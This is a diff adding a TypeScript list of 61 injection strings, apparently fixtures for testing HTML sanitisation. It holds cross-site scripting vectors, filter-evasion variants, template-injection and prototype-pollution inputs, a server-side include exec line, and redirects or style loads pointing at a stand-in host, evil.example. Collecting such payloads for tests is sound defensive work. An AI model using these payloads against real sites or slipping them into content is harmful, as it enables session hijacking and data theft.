@@ -1,0 +1,75 @@
+/** Texts that become code where a page does not take them for text. */
+const RUN = 'window.hacked=1';
+
+const ELEMENTS = [
+  `<script>${RUN}</script>`,
+  `<img src=x onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
+  `<iframe src="javascript:parent.hacked=1"></iframe>`,
+  `<body onload=${RUN}>`,
+  `<details open ontoggle=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<math><mtext></mtext><script>${RUN}</script></math>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<a href="javascript:${RUN}">a</a>`,
+  `<form action="javascript:${RUN}"><button>b</button></form>`,
+  `<base href="//evil.example/">`,
+  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
+  `<link rel="stylesheet" href="//evil.example/a.css">`,
+  `<style>@import "//evil.example/a.css"</style>`,
+  `<template><img src=x onerror=${RUN}></template>`,
+  `<noscript><img src=x onerror=${RUN}></noscript>`,
+  `<textarea></textarea><img src=x onerror=${RUN}>`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `--><script>${RUN}</script><!--`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<ScRiPt>${RUN}</sCrIpT>`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img src=x onerror\u00a0=${RUN}>`,
+  `<\u0000script>${RUN}</script>`,
+];
+const ATTRIBUTES = [
+  `" onmouseover="${RUN}`,
+  `' onmouseover='${RUN}`,
+  `"><script>${RUN}</script>`,
+  `'><script>${RUN}</script>`,
+  '" autofocus onfocus="window.hacked=1',
+  '` onclick=`window.hacked=1',
+  '" style="background:url(//evil.example)',
+];
+const ADDRESSES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java\tscript:${RUN}`,
+  ` javascript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `vbscript:${RUN}`,
+  '//evil.example/',
+  'https://evil.example/',
+  '\\\\evil.example\\',
+];
+const OTHERS = [
+  `\${${RUN}}`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `{${RUN}}`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `\\u003cscript\\u003e${RUN}`,
+  '__proto__',
+  'constructor',
+  'toString',
+  '%00%',
+  '\u202e\u2066<script>',
+  '<!--#exec cmd="ls"-->',
+  `a\u2028${RUN}`,
+];
+
+/** Sixty-one of them. */
+export const PAYLOADS: readonly string[] = [...ELEMENTS, ...ATTRIBUTES, ...ADDRESSES, ...OTHERS];
